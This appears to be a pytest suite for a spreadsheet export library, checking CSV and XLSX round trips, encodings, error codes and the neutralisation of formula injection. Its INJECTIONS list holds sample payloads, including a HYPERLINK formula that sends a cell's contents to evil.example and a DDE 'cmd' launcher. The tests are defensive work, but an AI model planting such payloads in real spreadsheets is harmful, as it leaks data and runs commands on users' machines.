"""CSV and XLSX files survive a trip through a spreadsheet, and never carry a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from oficio.corpus.outputs.spreadsheet import (
    MAX_CELL,
    TRUNCATION_MARKER,
    read_csv,
    write_csv,
    write_xlsx,
)
from oficio.errors import BinarySpreadsheetError, EmptySpreadsheetError, MissingColumnError

HEADER = ["request_id", "institution", "note", "amount"]
ROWS = [
    ["SAI-001", "Ministerio de la Mujer y Poblaciones Vulnerables", "línea 1\nlínea 2", 12],
    ["SAI-002", "Gobierno Regional de Cusco", "señor Núñez; «cita», \"comillas\"", -12.5],
    ["007", "Municipalidad Distrital de San Juan de Miraflores", "", None],
]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
]


def excel_resave(text: str, *, delimiter: str, encoding: str, newline: str = "\r\n") -> bytes:
    """Re-write CSV text as Excel would save it in another locale."""
    records = list(csv.reader(io.StringIO(text, newline="")))
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(records)
    return out.getvalue().encode(encoding)


def written(tmp_path, header=HEADER, rows=ROWS) -> str:
    path = tmp_path / "out.csv"
    write_csv(path, header, rows)
    return path.read_bytes().decode("utf-8-sig")


def expected_rows():
    return [{"request_id": "SAI-001", "institution": ROWS[0][1], "note": "línea 1\nlínea 2",
             "amount": "12"},
            {"request_id": "SAI-002", "institution": ROWS[1][1], "note": ROWS[1][2],
             "amount": "-12.5"},
            {"request_id": "007", "institution": ROWS[2][1], "note": "", "amount": ""}]


def test_written_file_is_utf8_bom_crlf_with_plain_numbers(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, HEADER, ROWS)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrequest_id,institution,note,amount\r\n")
    assert b",-12.5\r\n" in data  # a number stays a number, no apostrophe
    assert b"007" in data


def test_round_trip_unchanged(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, HEADER, ROWS)
    header, rows, numbers = read_csv(path)
    assert header == HEADER
    assert rows == expected_rows()
    assert numbers == [2, 3, 4]


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1"])
def test_excel_semicolon_cp1252_crlf(tmp_path, encoding):
    path = tmp_path / "back.csv"
    path.write_bytes(excel_resave(written(tmp_path), delimiter=";", encoding=encoding))
    _, rows, _ = read_csv(path)
    assert rows == expected_rows()


def test_excel_unicode_text_is_utf16_tab(tmp_path):
    path = tmp_path / "back.txt"
    path.write_bytes(excel_resave(written(tmp_path), delimiter="\t", encoding="utf-16"))
    _, rows, _ = read_csv(path)
    assert rows == expected_rows()


def test_utf8_without_bom_and_lf(tmp_path):
    path = tmp_path / "back.csv"
    path.write_bytes(excel_resave(written(tmp_path), delimiter=",", encoding="utf-8",
                                  newline="\n"))
    _, rows, _ = read_csv(path)
    assert rows == expected_rows()


def test_reordered_deleted_rows_added_column_and_trailing_empty_rows(tmp_path):
    text = ('"Notas ";"Institución";"REQUEST ID";"Amount";"Comentario del equipo"\r\n'
            '"";"Gobierno Regional de Cusco";"SAI-002";"-12,5";"llamar"\r\n'
            '"línea 1\r\nlínea 2";"Ministerio de la Mujer";"SAI-001";"12";""\r\n'
            ";;;;\r\n;;;;\r\n")
    path = tmp_path / "back.csv"
    path.write_bytes(text.encode("cp1252"))
    header, rows, numbers = read_csv(path, required=["request_id", "Institución"])
    assert header == ["notas", "institucion", "request_id", "amount", "comentario_del_equipo"]
    assert [row["request_id"] for row in rows] == ["SAI-002", "SAI-001"]
    assert rows[1]["notas"] == "línea 1\r\nlínea 2"
    assert rows[0]["comentario_del_equipo"] == "llamar"
    assert numbers == [2, 3]


def test_cells_beyond_the_header_are_kept(tmp_path):
    path = tmp_path / "back.csv"
    path.write_text("a,b\n1,2,3\n", encoding="utf-8")
    header, rows, _ = read_csv(path)
    assert header == ["a", "b", "column_3"]
    assert rows == [{"a": "1", "b": "2", "column_3": "3"}]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formulas_are_neutralized_and_read_back_exactly(tmp_path, text):
    path = tmp_path / "out.csv"
    write_csv(path, ["cell"], [[text]])
    raw = next(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig").split("\r\n", 1)[1],
                                      newline="")))[0]
    assert raw.startswith("'")
    assert read_csv(path)[1] == [{"cell": text}]


def test_formula_injection_survives_excel_resave(tmp_path):
    path = tmp_path / "back.csv"
    text = written(tmp_path, ["cell"], [[value] for value in INJECTIONS])
    path.write_bytes(excel_resave(text, delimiter=";", encoding="cp1252"))
    assert [row["cell"] for row in read_csv(path)[1]] == INJECTIONS


def test_values_none_booleans_and_long_text(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, ["a", "b", "c", "d"], [[None, True, False, "x" * 40_000]])
    _, rows, _ = read_csv(path)
    assert rows[0]["a"] == "" and rows[0]["b"] == "true" and rows[0]["c"] == "false"
    assert len(rows[0]["d"]) == MAX_CELL
    assert rows[0]["d"].endswith(TRUNCATION_MARKER)


def test_empty_file_is_refused(tmp_path):
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")
    with pytest.raises(EmptySpreadsheetError, match=r"\[E201\] .*empty.csv"):
        read_csv(path)
    path.write_bytes(b"\xef\xbb\xbf\r\n;;;\r\n")
    with pytest.raises(EmptySpreadsheetError):
        read_csv(path)


def test_binary_and_workbook_files_are_refused(tmp_path):
    xlsx = tmp_path / "requests.csv"
    write_xlsx(xlsx, {"requests": (["a"], [["1"]])})
    with pytest.raises(BinarySpreadsheetError, match="E202.*Save As"):
        read_csv(xlsx)
    binary = tmp_path / "random.csv"
    binary.write_bytes(bytes(range(256)) * 4)
    with pytest.raises(BinarySpreadsheetError):
        read_csv(binary)


def test_missing_required_column_names_it(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("request_id,institution\nSAI-1,MIMP\n", encoding="utf-8")
    with pytest.raises(MissingColumnError, match=r"E203.*r\.csv.*filed_on"):
        read_csv(path, required=["request_id", "filed_on"])


def test_xlsx_has_no_formula_a_dropdown_and_a_frozen_header(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "review.xlsx"
    rows = [[value, "unknown", 3] for value in INJECTIONS] + [["007", "answered", -1.5]]
    write_xlsx(path, {"replies": (["text", "status", "n"], rows),
                      "requests": (["request_id"], [["SAI-001"]])},
               dropdowns={("replies", "status"): ["answered", "partial", "refused", "unknown"]})
    workbook = load_workbook(path)
    sheet = workbook["replies"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet.cell(row=i, column=1).value for i in range(2, len(rows) + 2)] == (
        INJECTIONS + ["007"])
    assert sheet.cell(row=len(rows) + 1, column=3).value == -1.5
    assert sheet.freeze_panes == "A2" and workbook["requests"].freeze_panes == "A2"
    validations = sheet.data_validations.dataValidation
    assert len(validations) == 1 and validations[0].type == "list"
    assert str(validations[0].sqref).startswith("B2:B")
    lists = workbook["_lists"]
    assert lists.sheet_state == "hidden"
    assert [lists.cell(row=i, column=1).value for i in range(1, 5)] == [
        "answered", "partial", "refused", "unknown"]


TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
               max_size=60)


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(TEXT, min_size=1, max_size=4))
def test_any_text_cell_round_trips(tmp_path, cells):
    path = tmp_path / "prop.csv"
    header = [f"c{index}" for index in range(len(cells))]
    write_csv(path, header, [cells])
    _, rows, _ = read_csv(path)
    if not any(cells):
        assert rows == []  # a row of empty cells is an empty row
    else:
        assert list(rows[0].values()) == cells


def test_a_workbook_reads_back_like_its_csv_whatever_its_name(tmp_path):
    """``read_table`` tells the format by content: an XLSX named .csv and a CSV named .xlsx
    both give the rows ``read_csv`` gives for the CSV."""
    from oficio.corpus.outputs.spreadsheet_read import is_workbook, read_table

    book, text = tmp_path / "book.csv", tmp_path / "text.xlsx"
    write_xlsx(book, {"sheet": (HEADER, ROWS)})
    write_csv(text, HEADER, ROWS)
    assert is_workbook(book) and not is_workbook(text)
    assert read_table(book) == read_table(text) == read_csv(text)
    assert read_table(book)[1][2]["request_id"] == "007"  # a text cell keeps its zeros


def test_a_damaged_workbook_is_e212(tmp_path):
    import zipfile

    from oficio.corpus.outputs.spreadsheet_read import read_table
    from oficio.errors import UnreadableWorkbookError

    path = tmp_path / "cut.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not a workbook")
    with pytest.raises(UnreadableWorkbookError) as error:
        read_table(path)
    assert error.value.code == "E212"
